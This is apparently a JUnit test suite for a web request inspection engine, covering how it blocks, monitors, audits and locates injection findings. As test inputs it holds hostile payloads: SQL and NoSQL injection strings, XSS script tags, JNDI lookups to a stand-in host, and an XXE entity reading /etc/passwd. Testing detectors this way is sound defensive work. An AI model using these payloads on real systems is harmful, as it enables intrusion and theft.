package io.bulwark.policy.engine;

import static io.bulwark.policy.testing.Json.at;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.bulwark.bridge.Decision;
import io.bulwark.policy.audit.AsyncAuditWriter;
import io.bulwark.policy.detect.Category;
import io.bulwark.policy.detect.Finding;
import io.bulwark.policy.detect.Source;
import io.bulwark.policy.load.PolicyLoader;
import io.bulwark.policy.testing.FakeRequest;
import io.bulwark.policy.testing.Json;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The request's inputs through the engine: which are inspected, where findings are located, what a
 * block and a monitor look like to the client and in the audit, exclusions and limits. The detectors
 * here are stand-ins that know one marker per category (the real ones are tested on their own).
 */
class InputInspectionTest {

  @TempDir
  Path dir;

  /** The shared memo of clean values is built in the background on first use; the tests count on it. */
  @BeforeAll
  static void sharedMemoBuilt() throws InterruptedException {
    SharedCleanValues.awaitCache();
  }

  private AsyncAuditWriter writer;
  private BulwarkEngine engine;
  /** Every value the detectors were shown, as "source location-less name=value". */
  private final List<String> inspected = new ArrayList<>();

  private final ValueInspector markers = (enabled, source, name, value) -> {
    inspected.add(source + " " + name + "=" + value);
    String lower = value.toLowerCase();
    Finding finding = null;
    if (lower.contains("' or 1=1")) {
      finding = new Finding(Category.SQL_INJECTION, "sqli.tautology", value.substring(lower.indexOf("' or 1=1")));
    } else if (lower.contains("<script")) {
      finding = new Finding(Category.XSS, "xss.script-tag", value);
    } else if (lower.contains("${jndi:")) {
      finding = new Finding(Category.JNDI, "jndi.lookup", value);
    } else if (source == Source.JSON && value.startsWith("$") && value.equals(name)) {
      finding = new Finding(Category.NOSQL_INJECTION, "nosqli.operator", value);
    } else if (source == Source.XML_DOCUMENT && value.contains("<!DOCTYPE") && value.contains("SYSTEM")) {
      finding = new Finding(Category.XXE, "xxe.external-entity", "<!DOCTYPE");
    }
    return finding != null && enabled.contains(finding.category()) ? finding : null;
  };

  private BulwarkEngine engine(String extra) throws Exception {
    writer = new AsyncAuditWriter(dir.resolve("audit.jsonl"), 8);
    engine = new BulwarkEngine(PolicyLoader.parse("""
        version: 1
        rules:
          - name: users
            match: { path: "/api/users/{id}" }
            action: allow
          - name: cms-pages
            match: { path: /cms/** }
            action: allow
          - name: closed
            match: { path: /closed/** }
            action: deny
        default: allow
        audit: { events: [allow, deny, monitor] }
        %s
        """.formatted(extra), "policy.yaml"), writer, markers);
    return engine;
  }

  private List<Map<String, Object>> auditLines() {
    writer.close();
    return Json.lines(writer.file());
  }

  @AfterEach
  void close() {
    if (engine != null) {
      engine.close();
    }
    if (writer != null) {
      writer.close();
    }
  }

  @Test
  void sqlInjectionInAQueryParameterIsRefusedWithTheInjectionProblemAndAudited() throws Exception {
    Decision decision = engine("").evaluate(FakeRequest.of("GET", "/search").query("q=x%27%20OR%201%3D1--&page=2"));

    assertTrue(decision.blocks());
    assertEquals(403, decision.status());
    assertTrue(decision.body().contains("urn:bulwark:problem:injection"), decision.body());
    Map<String, Object> event = auditLines().get(0);
    assertEquals("deny", at(event, "event.action"));
    assertEquals("injection.sqli", at(event, "event.reason"));
    assertEquals("sqli", at(event, "threat.technique"));
    assertEquals("query.q", at(event, "threat.location"));
    assertEquals("' OR 1=1--", at(event, "threat.evidence"));
    assertEquals("sqli.tautology", at(event, "threat.reason"));
    assertEquals("request", at(event, "threat.layer"));
  }

  @Test
  void aMonitoredFindingIsAuditedAsMonitorAndTheRequestProceeds() throws Exception {
    Decision decision = engine("").evaluate(FakeRequest.of("POST", "/comments")
        .body("application/x-www-form-urlencoded", "author=O%27Brien&text=%3Cscript%3Ealert(1)%3C/script%3E"));

    assertFalse(decision.blocks());
    List<Map<String, Object>> lines = auditLines();
    assertEquals(1, lines.size(), "one event per request: monitor instead of allow");
    assertEquals("monitor", at(lines.get(0), "event.action"));
    assertEquals("injection.xss", at(lines.get(0), "event.reason"));
    assertEquals("form.text", at(lines.get(0), "threat.location"));
    assertEquals(403, ((Number) at(lines.get(0), "bulwark.would_status")).intValue());
  }

  @Test
  void jsonValuesAreLocatedByPathAndKeysAreInspectedAsNames() throws Exception {
    engine("protect: { nosqlInjection: block }");
    Decision sqli = engine.evaluate(FakeRequest.of("POST", "/api/orders").body("application/json",
        "{\"user\":{\"email\":\"a@example.com\"},\"items\":[\"book\",\"x' or 1=1 --\"]}"));
    Decision nosqli = engine.evaluate(FakeRequest.of("POST", "/login").body("application/json; charset=utf-8",
        "{\"user\":\"admin\",\"password\":{\"$ne\":\"\"}}"));

    assertTrue(sqli.blocks());
    assertTrue(nosqli.blocks());
    List<Map<String, Object>> lines = auditLines();
    assertEquals("json.$.items[1]", at(lines.get(0), "threat.location"));
    assertEquals("json.$.password.$ne", at(lines.get(1), "threat.location"));
    assertEquals("injection.nosqli", at(lines.get(1), "event.reason"));
    assertTrue(inspected.contains("JSON email=a@example.com"), inspected.toString());
  }

  @Test
  void jsonThatOnlyALenientParserAcceptsIsStillInspected() throws Exception {
    engine("");
    String longKey = "k".repeat(60_000);
    Decision commented = engine.evaluate(FakeRequest.of("POST", "/api/orders").body("application/json",
        "{ /* note */ 'id': 1, q: \"x' or 1=1\", }"));
    Decision afterALongKey = engine.evaluate(FakeRequest.of("POST", "/api/orders").body("application/json",
        "{\"" + longKey + "\": 1, \"n\": " + "9".repeat(2000) + ", \"q\": \"x' or 1=1\"}"));
    Decision malformed = engine.evaluate(FakeRequest.of("POST", "/api/orders").body("application/json",
        "{\"a\": [1, 2}, \"q\": \"x' or 1=1\"}"));

    assertTrue(commented.blocks());
    assertTrue(afterALongKey.blocks());
    assertTrue(malformed.blocks());
    List<Map<String, Object>> lines = auditLines();
    assertEquals("json.$.q", at(lines.get(0), "threat.location"));
    assertEquals("json.$.q", at(lines.get(1), "threat.location"));
    assertEquals("body", at(lines.get(2), "threat.location"), "malformed: the whole text");
  }

  @Test
  void anXmlBodyIsInspectedAsAWholeForXxeAndByValue() throws Exception {
    engine("");
    Decision xxe = engine.evaluate(FakeRequest.of("POST", "/import").body("application/xml",
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"));
    Decision inValue = engine.evaluate(FakeRequest.of("POST", "/import").body("text/xml",
        "<order id=\"7\"><note>${jndi:ldap://evil.example/a}</note></order>"));
    Decision benign = engine.evaluate(FakeRequest.of("POST", "/import").body("application/xml",
        "<order id=\"7\"><note>Leave at the door</note></order>"));
    Decision afterAFault = engine.evaluate(FakeRequest.of("POST", "/import").body("application/xml",
        "<order><a>&undeclared;</a><note>x' or 1=1</note></order>"));

    assertTrue(xxe.blocks());
    assertTrue(inValue.blocks());
    assertFalse(benign.blocks());
    assertTrue(afterAFault.blocks(), "what follows a fault of the safe reader is still inspected");
    List<Map<String, Object>> lines = auditLines();
    assertEquals("body", at(lines.get(0), "threat.location"));
    assertEquals("body", at(lines.get(lines.size() - 1), "threat.location"));
    assertEquals("xxe", at(lines.get(0), "threat.technique"));
    assertEquals("xml./order/note", at(lines.get(1), "threat.location"));
    assertTrue(inspected.contains("XML id=7"), inspected.toString());
  }

  @Test
  void cleanPathSegmentsAreInspectedOnceAcrossRequestsAndAFlaggedOneEveryTime() throws Exception {
    engine("protect: { jndi: block, xss: block, inputs: { headers: [X-Note] } }");
    for (int i = 0; i < 3; i++) {
      assertFalse(engine.evaluate(FakeRequest.of("GET", "/cms/pages/about")).blocks());
      assertTrue(engine.evaluate(FakeRequest.of("GET", "/cms/pages/${jndi:ldap:x}")).blocks());
      assertFalse(engine.evaluate(FakeRequest.of("GET", "/api/users/about")).blocks());
      assertFalse(engine.evaluate(FakeRequest.of("GET", "/cms/pages/42")).blocks());
    }
    assertFalse(engine.evaluate(FakeRequest.of("GET", "/").header("X-Note", "about")).blocks());

    assertEquals(1, inspected.stream().filter(v -> v.equals("PATH null=pages")).count(),
        "a clean segment is remembered across requests: " + inspected);
    assertEquals(3, inspected.stream().filter(v -> v.equals("PATH null=${jndi:ldap:x}")).count(),
        "a flagged one never is: " + inspected);
    assertEquals(3, inspected.stream().filter(v -> v.equals("PATH null=42")).count(),
        "an identifier, new on most requests, is not kept: " + inspected);
    // The same text elsewhere is its own question: a plain segment, a path variable, a header.
    assertEquals(1, inspected.stream().filter(v -> v.equals("PATH null=about")).count(), inspected.toString());
    assertEquals(1, inspected.stream().filter(v -> v.equals("PATH id=about")).count(), inspected.toString());
    assertEquals(1, inspected.stream().filter(v -> v.equals("HEADER x-note=about")).count(), inspected.toString());
  }

  @Test
  void aCleanHeaderValueIsInspectedOnceAcrossRequestsAndAFlaggedOneEveryTime() throws Exception {
    engine("protect: { jndi: block, inputs: { headers: [User-Agent] } }");
    for (int i = 0; i < 3; i++) {
      assertFalse(engine.evaluate(FakeRequest.of("GET", "/").header("User-Agent", "Mozilla/5.0 (X11) Firefox/128.0"))
          .blocks());
      assertTrue(engine.evaluate(FakeRequest.of("GET", "/").header("User-Agent", "${jndi:ldap://x/a}")).blocks());
    }

    assertEquals(1,
        inspected.stream().filter(v -> v.equals("HEADER user-agent=Mozilla/5.0 (X11) Firefox/128.0")).count(),
        "a clean value is remembered across requests: " + inspected);
    assertEquals(3, inspected.stream().filter(v -> v.equals("HEADER user-agent=${jndi:ldap://x/a}")).count(),
        "a flagged value never is: " + inspected);
  }

  @Test
  void theHeaderMemoIsPerPolicyAndSkippedWithExclusions() throws Exception {
    engine("protect: { jndi: block, inputs: { headers: [User-Agent] } }");
    engine.evaluate(FakeRequest.of("GET", "/").header("User-Agent", "curl/8.5.0"));
    engine.close();
    writer.close();
    engine("protect: { jndi: block, inputs: { headers: [User-Agent] }, exclude: [ { inputs: [query.html], categories: [xss] } ] }");
    engine.evaluate(FakeRequest.of("GET", "/").header("User-Agent", "curl/8.5.0"));
    engine.evaluate(FakeRequest.of("GET", "/").header("User-Agent", "curl/8.5.0"));

    assertEquals(3, inspected.stream().filter(v -> v.equals("HEADER user-agent=curl/8.5.0")).count(),
        inspected.toString());
  }

  @Test
  void pathVariablesHeadersAndCookiesAreInspectedWhereConfigured() throws Exception {
    engine("protect: { xss: block, inputs: { headers: [X-Api-Version], cookies: true } }");
    Decision variable = engine.evaluate(FakeRequest.of("GET", "/api/users/%3Cscript%3E"));
    Decision header = engine.evaluate(FakeRequest.of("GET", "/").header("X-Api-Version", "${jndi:ldap://x/a}"));
    Decision userAgentNotConfigured =
        engine.evaluate(FakeRequest.of("GET", "/").header("User-Agent", "${jndi:ldap://x/a}"));
    Decision cookie = engine.evaluate(FakeRequest.of("GET", "/").header("Cookie", "theme=dark; pref=\"<script>\""));
    Decision segment = engine.evaluate(FakeRequest.of("GET", "/files/x%27%20or%201%3D1"));

    assertTrue(variable.blocks());
    assertTrue(header.blocks());
    assertFalse(userAgentNotConfigured.blocks(), "only the configured headers");
    assertTrue(cookie.blocks());
    assertTrue(segment.blocks());
    List<Map<String, Object>> lines = auditLines();
    assertEquals(List.of("path.id", "header.x-api-version", "cookie.pref", "path.2"),
        lines.stream().filter(line -> "deny".equals(at(line, "event.action")))
            .map(line -> at(line, "threat.location")).toList());
  }

  @Test
  void exclusionsTurnCategoriesOffForTheirRulesAndInputs() throws Exception {
    engine("""
        protect:
          xss: block
          exclude:
            - { rules: [cms-pages], inputs: ["json.$.content"], categories: [xss] }
        """);
    String page = "{\"title\":\"News\",\"content\":\"<script src=/widget.js></script>\"}";

    assertFalse(engine.evaluate(FakeRequest.of("PUT", "/cms/news").body("application/json", page)).blocks());
    assertTrue(engine.evaluate(FakeRequest.of("PUT", "/blog/news").body("application/json", page)).blocks(),
        "another rule");
    assertTrue(engine.evaluate(FakeRequest.of("PUT", "/cms/news").body("application/json",
        "{\"title\":\"<script>\"}")).blocks(), "another input");
    assertTrue(engine.evaluate(FakeRequest.of("PUT", "/cms/news").body("application/json",
        "{\"content\":\"x' or 1=1\"}")).blocks(), "another category");
  }

  @Test
  void offCategoriesAndMonitorModeBlockNothing() throws Exception {
    engine("protect: { sqlInjection: off }");
    assertFalse(engine.evaluate(FakeRequest.of("GET", "/s").query("q=%27%20or%201%3D1")).blocks());
    engine.close();
    writer.close();
    engine("mode: monitor");
    assertFalse(engine.evaluate(FakeRequest.of("GET", "/s").query("q=%27%20or%201%3D1")).blocks());
    List<Map<String, Object>> lines = auditLines();
    Map<String, Object> event = lines.get(lines.size() - 1);
    assertEquals("monitor", at(event, "event.action"));
    assertEquals("query.q", at(event, "threat.location"));
  }

  @Test
  void deniedRequestsAndBodiesThatAreNotInspectedAreNotRead() throws Exception {
    engine("");
    FakeRequest denied = FakeRequest.of("POST", "/closed/x").body("application/json", "{\"a\":\"b\"}");
    FakeRequest binary = FakeRequest.of("POST", "/upload").body("application/octet-stream", new byte[5000], false);
    FakeRequest multipart = FakeRequest.of("POST", "/upload").body("multipart/form-data; boundary=x", "--x--");
    FakeRequest getWithoutBody = FakeRequest.of("GET", "/x");

    assertTrue(engine.evaluate(denied).blocks());
    assertFalse(engine.evaluate(binary).blocks());
    assertFalse(engine.evaluate(multipart).blocks());
    assertFalse(engine.evaluate(getWithoutBody).blocks());
    assertEquals(List.of(-1, -1, -1, -1), List.of(denied.bodyReadWith, binary.bodyReadWith, multipart.bodyReadWith,
        getWithoutBody.bodyReadWith));
  }

  @Test
  void multipartFieldsAndFileNamesAreInspectedOnlyWhenConfigured() throws Exception {
    String body = "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n"
        + "Content-Type: text/plain\r\n\r\nx' or 1=1 in a file is not inspected\r\n"
        + "--b\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nx' or 1=1 --\r\n--b--\r\n";
    engine("");
    FakeRequest unread = FakeRequest.of("POST", "/upload").body("multipart/form-data; boundary=b", body);
    assertFalse(engine.evaluate(unread).blocks());
    assertEquals(-1, unread.bodyReadWith);
    engine.close();
    writer.close();
    engine("protect: { inputs: { multipart: true } }");

    Decision decision =
        engine.evaluate(FakeRequest.of("POST", "/upload").body("multipart/form-data; boundary=b", body));
    assertTrue(decision.blocks());
    List<Map<String, Object>> lines = auditLines();
    assertEquals("form.note", at(lines.get(lines.size() - 1), "threat.location"));
    assertTrue(inspected.contains("FORM file=a.txt"), inspected.toString());
  }

  @Test
  void limitsRefuseBigBodiesDeepJsonManyParametersAndManyHeaders() throws Exception {
    engine("limits: { maxBodySize: 2KB, maxJsonDepth: 4, maxJsonSize: 1KB, maxParameters: 3, maxHeaders: 5 }");
    FakeRequest declaredTooLarge = FakeRequest.of("POST", "/upload")
        .body("application/octet-stream", new byte[3000], false);
    Decision chunkedTooLarge = engine.evaluate(FakeRequest.of("POST", "/upload")
        .body("application/octet-stream", new byte[3000], true));
    FakeRequest jsonTooLargeRequest = FakeRequest.of("POST", "/api").body("application/json",
        "{\"a\":\"" + "x".repeat(1500) + "\"}");
    Decision jsonTooLarge = engine.evaluate(jsonTooLargeRequest);
    Decision tooDeep = engine.evaluate(FakeRequest.of("POST", "/api").body("application/json", "[[[[[1]]]]]"));
    Decision deepEnough = engine.evaluate(FakeRequest.of("POST", "/api").body("application/json", "[[[[1]]]]"));
    Decision manyParameters = engine.evaluate(FakeRequest.of("POST", "/f").query("a=1&b=2")
        .body("application/x-www-form-urlencoded", "c=3&d=4"));
    FakeRequest manyHeaders = FakeRequest.of("GET", "/");
    for (int i = 0; i < 6; i++) {
      manyHeaders.header("X-H" + i, "v");
    }

    Decision declared = engine.evaluate(declaredTooLarge);
    assertEquals(413, declared.status());
    assertEquals(-1, declaredTooLarge.bodyReadWith, "refused on its Content-Length, unread");
    assertEquals(413, chunkedTooLarge.status());
    assertEquals(413, jsonTooLarge.status());
    assertEquals(-1, jsonTooLargeRequest.bodyReadWith, "refused on its Content-Length, unread");
    assertEquals(400, tooDeep.status());
    assertTrue(tooDeep.body().contains("urn:bulwark:problem:json-too-deep"), tooDeep.body());
    assertFalse(deepEnough.blocks());
    assertEquals(400, manyParameters.status());
    assertEquals(431, engine.evaluate(manyHeaders).status());
    List<Object> reasons = auditLines().stream().map(line -> at(line, "event.reason")).toList();
    assertEquals(List.of("limit.body-size", "limit.json-size", "limit.json-depth", "default", "limit.parameters",
        "limit.body-size", "limit.headers"), reasons);
  }

  @Test
  void evidenceIsCutTo120CharactersAndMaskedForCredentialNames() throws Exception {
    engine("");
    engine.evaluate(FakeRequest.of("GET", "/s").query("q=" + "%27%20or%201%3D1".repeat(1) + "y".repeat(300)));
    engine.evaluate(FakeRequest.of("GET", "/s").header("Cookie", "session=abc' or 1=1"));

    List<Map<String, Object>> lines = auditLines();
    assertEquals(120, ((String) at(lines.get(0), "threat.evidence")).length());
    assertEquals("cookie.session", at(lines.get(1), "threat.location"));
    assertEquals("[redacted]", at(lines.get(1), "threat.evidence"));
    assertNull(at(lines.get(1), "threat.sink"));
  }

  @Test
  void benignInputsPassAndAreAllInspected() throws Exception {
    engine("");
    Decision decision = engine.evaluate(FakeRequest.of("POST", "/api/users/42").query("name=O%27Brien")
        .header("User-Agent", "Mozilla/5.0").body("application/json",
            "{\"bio\":\"I select the best union of ideas\",\"email\":\"ann@example.com\",\"site\":\"https://example.com/a?b=c\"}"));

    assertFalse(decision.blocks());
    assertTrue(inspected.containsAll(List.of("QUERY name=O'Brien", "PATH id=42", "HEADER user-agent=Mozilla/5.0",
        "JSON bio=I select the best union of ideas", "JSON site=https://example.com/a?b=c")), inspected.toString());
    assertEquals("allow", at(auditLines().get(0), "event.action"));
    assertEquals(StandardCharsets.UTF_8, BodyRead.charset("application/json"));
  }
}
